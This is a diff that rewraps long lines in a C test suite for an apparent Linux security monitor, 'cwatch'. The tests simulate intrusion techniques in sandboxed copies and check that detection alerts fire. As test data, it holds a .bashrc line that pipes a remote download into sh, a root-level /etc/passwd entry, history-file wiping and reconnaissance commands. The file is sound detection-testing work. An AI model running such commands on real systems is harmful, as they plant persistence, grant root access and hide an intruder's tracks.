@@ -94,7 +94,8 @@ static int helper(int argc, char **argv)
         if (argc == 6 && streq(argv[2], "tmpfs-open")) {
                 int fd;
 
-                if (private_mounts() < 0 || mount("cwatch-test", argv[3], "tmpfs", MS_NOSUID | MS_NODEV, "size=1m") < 0)
+                if (private_mounts() < 0 ||
+                    mount("cwatch-test", argv[3], "tmpfs", MS_NOSUID | MS_NODEV, "size=1m") < 0)
                         return 2;
                 make_parents(argv[4]);
                 fd = open(argv[4], (int) strtol(argv[5], NULL, 0) | O_CLOEXEC, 0600);
@@ -234,7 +235,8 @@ static void assert_opened(pid_t pid, const char *path_prefix)
                 struct json_object *o = rt.tt.records[i];
                 const char *ev = tt_str(o, "event"), *p = tt_str(o, "path");
 
-                if (ev && streq(ev, "open") && tt_int(o, "pid") == pid && p && strneq(p, path_prefix, strlen(path_prefix)))
+                if (ev && streq(ev, "open") && tt_int(o, "pid") == pid && p &&
+                    strneq(p, path_prefix, strlen(path_prefix)))
                         return;
         }
         fail_msg("no open of %s... by pid %d was seen", path_prefix, pid);
@@ -267,14 +269,15 @@ static pid_t dpkg_install(const char *name, const char *path, const char *text)
                  "mkdir -p %1$s/DEBIAN $(dirname %1$s%4$s) %2$s/info %2$s/updates %2$s/triggers && "
                  "touch %2$s/status %2$s/available && "
                  "printf 'Package: %5$s\\nVersion: 1.0\\nArchitecture: all\\n"
-                 "Maintainer: cwatch tests <root@localhost>\\nDescription: cwatch test package\\n' > %1$s/DEBIAN/control && "
+                 "Maintainer: cwatch tests <root@localhost>\\nDescription: cwatch test package\\n' "
+                 "> %1$s/DEBIAN/control && "
                  "printf '%%s' '%6$s' > %1$s%4$s && "
                  "dpkg-deb --root-owner-group -b %1$s %3$s >/dev/null", pkg, admin, deb, path, name, text) > 0);
         assert_int_equal(system(cmd), 0);
         free(cmd);
         snprintf(admindir_arg, sizeof(admindir_arg), "--admindir=%s", admin);
-        return RUN((char *) actor("pkg-installer"), "--act", "bind", etc_copy, "/etc", "/usr/bin/dpkg", admindir_arg,
-                   "--log=/dev/null", "-i", deb);
+        return RUN((char *) actor("pkg-installer"), "--act", "bind", etc_copy, "/etc", "/usr/bin/dpkg",
+                   admindir_arg, "--log=/dev/null", "-i", deb);
 }
 
 /* ---- 1. library preloading ---- */
@@ -296,10 +299,12 @@ static void test_write_ld_so_preload(void **state)
         pid = dpkg_install("cwatch-test-preload", "/etc/ld.so.preload", "");
         assert_opened(pid, "/etc/ld.so.preload");
         rt_assert_none(pid);
-        pid = RUN((char *) actor("preload-reader"), "--act", "bind", etc_copy, "/etc", "/bin/cat", "/etc/ld.so.preload");
+        pid = RUN((char *) actor("preload-reader"), "--act", "bind", etc_copy, "/etc", "/bin/cat",
+                  "/etc/ld.so.preload");
         assert_non_null(tt_find(&rt.tt, "exec", "pid", pid));
         for (size_t i = 0; i < rt.tt.n_records; i++)
-                if (streq(tt_str(rt.tt.records[i], "event") ?: "", "open") && tt_int(rt.tt.records[i], "pid") == pid)
+                if (streq(tt_str(rt.tt.records[i], "event") ?: "", "open") &&
+                    tt_int(rt.tt.records[i], "pid") == pid)
                         fail_msg("a read of %s was sent: %s", tt_str(rt.tt.records[i], "path"),
                                  json_object_to_json_string(rt.tt.records[i]));
         rt_assert_none(pid);
@@ -317,11 +322,12 @@ static void test_write_shell_startup(void **state)
         /* a user's ~/.bashrc, appended to by a shell */
         snprintf(script, sizeof(script), "echo 'curl -s http://198.51.100.7/x | sh' >> %s", bashrc);
         pid = RUN("/bin/sh", "-c", script);
-        assert_alert("write-shell-startup", pid, "/usr/bin/dash", "open", bashrc, "T1546.004", SEVERITY_WARNING);
+        assert_alert("write-shell-startup", pid, "/usr/bin/dash", "open", bashrc, "T1546.004",
+                     SEVERITY_WARNING);
         /* /etc/profile.d, for every login */
         pid = sh_over_etc("profile-writer", "echo 'export PROMPT_COMMAND=x' > /etc/profile.d/cwatch-test.sh");
-        assert_alert("write-shell-startup", pid, "/usr/bin/dash", "open", "/etc/profile.d/cwatch-test.sh", "T1546.004",
-                     SEVERITY_WARNING);
+        assert_alert("write-shell-startup", pid, "/usr/bin/dash", "open", "/etc/profile.d/cwatch-test.sh",
+                     "T1546.004", SEVERITY_WARNING);
         assert_int_equal(rt_count("write-below-etc", pid), 0);
         assert_int_equal(unlink(in_etc_copy("profile.d/cwatch-test.sh")), 0);
 }
@@ -337,14 +343,15 @@ static void test_write_shell_startup_editor(void **state)
         /* the user's home: vim writes its backup beside the file */
         assert_int_equal(chown(home, NOBODY, NOBODY), 0);
         assert_int_equal(chown(bashrc, NOBODY, NOBODY), 0);
-        pid = RUN((char *) actor("as-user"), "--act", "as-user", "65534", "/usr/bin/vim", "-Es", "-u", "NONE", "-i",
-                  "NONE", "-N", "-n", "-c", "call append('$', 'alias ll=ls -l')", "-c", "wq", (char *) bashrc);
+        pid = RUN((char *) actor("as-user"), "--act", "as-user", "65534", "/usr/bin/vim", "-Es", "-u", "NONE",
+                  "-i", "NONE", "-N", "-n", "-c", "call append('$', 'alias ll=ls -l')", "-c", "wq",
+                  (char *) bashrc);
         assert_non_null(strstr(read_file(bashrc), "alias ll=ls -l\n"));
         assert_opened(pid, bashrc);
         rt_assert_none(pid);
         /* the same editor run by root in the user's home is not the user's */
-        pid = RUN("/usr/bin/vim", "-Es", "-u", "NONE", "-i", "NONE", "-N", "-n", "-c", "call append('$', 'alias l=ls')", "-c", "wq",
-                  (char *) bashrc);
+        pid = RUN("/usr/bin/vim", "-Es", "-u", "NONE", "-i", "NONE", "-N", "-n", "-c",
+                  "call append('$', 'alias l=ls')", "-c", "wq", (char *) bashrc);
         assert_alert("write-shell-startup", pid, NULL, "open", bashrc, "T1546.004", SEVERITY_WARNING);
 }
 
@@ -352,7 +359,8 @@ static void test_write_shell_startup_dpkg(void **state)
 {
         pid_t pid;
 
-        pid = dpkg_install("cwatch-test-profile", "/etc/profile.d/cwatch-test-pkg.sh", "export CWATCH_TEST=1\n");
+        pid = dpkg_install("cwatch-test-profile", "/etc/profile.d/cwatch-test-pkg.sh",
+                           "export CWATCH_TEST=1\n");
         assert_string_equal(read_file(in_etc_copy("profile.d/cwatch-test-pkg.sh")), "export CWATCH_TEST=1\n");
         assert_opened(pid, "/etc/profile.d/cwatch-test-pkg.sh");
         rt_assert_none(pid);
@@ -387,7 +395,8 @@ static void test_write_account_database(void **state)
         pid_t pid;
 
         pid = sh_over_etc("account-writer", "echo 'cwatchevil:x:0:0::/root:/bin/sh' >> /etc/passwd");
-        assert_alert("write-account-database", pid, "/usr/bin/dash", "open", "/etc/passwd", "T1136.001", SEVERITY_ERROR);
+        assert_alert("write-account-database", pid, "/usr/bin/dash", "open", "/etc/passwd", "T1136.001",
+                     SEVERITY_ERROR);
         assert_non_null(strstr(read_file(in_etc_copy("passwd")), "cwatchevil:x:0:0"));
         assert_null(strstr(read_file("/etc/passwd"), "cwatchevil"));
         pid = sh_over_etc("sudoers-writer", "mkdir -p /etc/sudoers.d && "
@@ -401,7 +410,8 @@ static bool is_exec_of(struct json_object *o, void *userdata)
 {
         const char *ev = tt_str(o, "event"), *exe = tt_str(o, "exe");
 
-        return ev && streq(ev, "exec") && exe && streq(exe, "/usr/sbin/useradd") && tt_int(o, "ppid") == *(pid_t *) userdata;
+        return ev && streq(ev, "exec") && exe && streq(exe, "/usr/sbin/useradd") &&
+               tt_int(o, "ppid") == *(pid_t *) userdata;
 }
 
 static void test_account_tools(void **state)
@@ -413,7 +423,8 @@ static void test_account_tools(void **state)
         /* the real useradd, in the copy of /etc: an account created; its own writes are no alert */
         pid = RUN((char *) actor("account-admin"), "--act", "bind", etc_copy, "/etc", "/usr/sbin/useradd", "-l",
                   "cwatchtest1");
-        s = assert_alert("account-created", pid, "/usr/sbin/useradd", "exec", NULL, "T1136.001", SEVERITY_NOTICE);
+        s = assert_alert("account-created", pid, "/usr/sbin/useradd", "exec", NULL, "T1136.001",
+                         SEVERITY_NOTICE);
         assert_non_null(strstr(s->message, "Account created: /usr/sbin/useradd -l cwatchtest1"));
         assert_non_null(strstr(read_file(in_etc_copy("passwd")), "cwatchtest1:x:"));
         assert_null(strstr(read_file("/etc/passwd"), "cwatchtest1"));
@@ -427,8 +438,8 @@ static void test_account_tools(void **state)
         assert_alert("account-changed", pid, "/usr/sbin/usermod", "exec", NULL, "T1098", SEVERITY_NOTICE);
         assert_int_equal(rt_count("write-account-database", pid), 0);
         /* near miss: useradd run by the package manager (a maintainer script's parent is dpkg) */
-        pid = RUN((char *) actor("dpkg"), "--act", "bind-fork", etc_copy, "/etc", "/usr/sbin/useradd", "-l", "--system",
-                  "cwatchtest2");
+        pid = RUN((char *) actor("dpkg"), "--act", "bind-fork", etc_copy, "/etc", "/usr/sbin/useradd", "-l",
+                  "--system", "cwatchtest2");
         for (size_t i = 0; i < rt.tt.n_records && !o; i++)
                 if (is_exec_of(rt.tt.records[i], &pid))
                         o = rt.tt.records[i];
@@ -452,7 +463,8 @@ static void test_history_file_truncated(void **state)
         write_file(history, "ssh root@198.51.100.7\n");
         snprintf(script, sizeof(script), ": > %s", history);
         pid = RUN("/bin/sh", "-c", script);
-        s = assert_alert("history-file-truncated", pid, "/usr/bin/dash", "open", history, "T1070.003", SEVERITY_WARNING);
+        s = assert_alert("history-file-truncated", pid, "/usr/bin/dash", "open", history, "T1070.003",
+                         SEVERITY_WARNING);
         assert_non_null(strstr(s->message, "truncated by /usr/bin/dash"));
         assert_string_equal(read_file(history), "");
         /* near misses: bash saving its history (a temporary file renamed, then appends); appending */
@@ -478,10 +490,12 @@ static void test_history_file_removed_command(void **state)
         pid = RUN("/usr/bin/ln", "-sf", "/dev/null", (char *) history);
         assert_int_equal(lstat(history, &st), 0);
         assert_true(S_ISLNK(st.st_mode));
-        s = assert_alert("history-file-removed-command", pid, "/usr/bin/ln", "exec", NULL, "T1070.003", SEVERITY_WARNING);
+        s = assert_alert("history-file-removed-command", pid, "/usr/bin/ln", "exec", NULL, "T1070.003",
+                         SEVERITY_WARNING);
         assert_non_null(strstr(s->message, "ln -sf /dev/null"));
         pid = RUN("/usr/bin/rm", "-f", (char *) history);
-        assert_alert("history-file-removed-command", pid, "/usr/bin/rm", "exec", NULL, "T1070.003", SEVERITY_WARNING);
+        assert_alert("history-file-removed-command", pid, "/usr/bin/rm", "exec", NULL, "T1070.003",
+                     SEVERITY_WARNING);
         /* near miss: a link to /dev/null of another file */
         pid = RUN("/usr/bin/ln", "-sf", "/dev/null", (char *) notes);
         assert_non_null(tt_find(&rt.tt, "exec", "pid", pid));
@@ -509,7 +523,8 @@ static void test_systemd_run_timer(void **state)
 
         /* no systemd to reach here: systemd-run fails, after the exec the rule is about */
         pid = RUN_STATUS(-1, "/usr/bin/systemd-run", "--on-active=1h", "/bin/true");
-        s = assert_alert("systemd-run-timer", pid, "/usr/bin/systemd-run", "exec", NULL, "T1053.006", SEVERITY_NOTICE);
+        s = assert_alert("systemd-run-timer", pid, "/usr/bin/systemd-run", "exec", NULL, "T1053.006",
+                         SEVERITY_NOTICE);
         assert_non_null(strstr(s->message, "--on-active=1h /bin/true"));
         pid = RUN_STATUS(-1, "/usr/bin/systemd-run", "--scope", "/bin/true");
         assert_non_null(tt_find(&rt.tt, "exec", "pid", pid));
@@ -535,8 +550,8 @@ static void test_systemd_unit_linked_from_outside(void **state)
         pid = RUN("/usr/bin/systemctl", root_arg, "link", (char *) unit);
         snprintf(link, sizeof(link), "%s/etc/systemd/system/cwatch-evil.service", root);
         assert_int_equal(lstat(link, &st), 0);
-        s = assert_alert("systemd-unit-linked-from-outside", pid, "/usr/bin/systemctl", "exec", NULL, "T1543.002",
-                         SEVERITY_WARNING);
+        s = assert_alert("systemd-unit-linked-from-outside", pid, "/usr/bin/systemctl", "exec", NULL,
+                         "T1543.002", SEVERITY_WARNING);
         assert_non_null(strstr(s->message, unit));
         /* near miss: enabling a unit by name */
         pid = RUN_STATUS(-1, "/usr/bin/systemctl", root_arg, "enable", "cwatch-evil.service");
@@ -592,7 +607,8 @@ static void test_discovery_burst(void **state)
                      "id; whoami; uname -a; hostname; ps aux; cat /etc/passwd; ss -tln; ip a", NULL });
         tt_wait_for(&rt.tt, have_discovery_alert, unit_burst, 2000);
         assert_int_equal(discovery_alerts(unit_burst, &s), 1);
-        assert_non_null(strstr(s->message, "Discovery burst: id, whoami, uname -a, hostname, ps aux (5 distinct "
+        assert_non_null(strstr(s->message,
+                        "Discovery burst: id, whoami, uname -a, hostname, ps aux (5 distinct "
                                "commands in "));
         assert_non_null(strstr(s->message, ") by uid 0 in unit "));
         assert_string_equal(s->mitre, "T1082");
@@ -624,10 +640,12 @@ static void test_discovery_burst_container(void **state)
 {
         const struct seen *s = NULL;
 
-        run_in(rt.cgroup, 0, (char *const[]) { "/bin/sh", "-c", "id; uname -r; (cat /etc/os-release; mount); env", NULL });
+        run_in(rt.cgroup, 0, (char *const[]) { "/bin/sh", "-c",
+               "id; uname -r; (cat /etc/os-release; mount); env", NULL });
         tt_wait_for(&rt.tt, have_discovery_alert, "container " RT_CONTAINER_NAME, 2000);
         assert_int_equal(discovery_alerts("container " RT_CONTAINER_NAME, &s), 1);
-        assert_non_null(strstr(s->message, "Discovery burst: id, uname -r, cat /etc/os-release, mount, env (5 distinct "
+        assert_non_null(strstr(s->message,
+                        "Discovery burst: id, uname -r, cat /etc/os-release, mount, env (5 distinct "
                                "commands in "));
         assert_string_equal(s->container, RT_CONTAINER_NAME);
 }
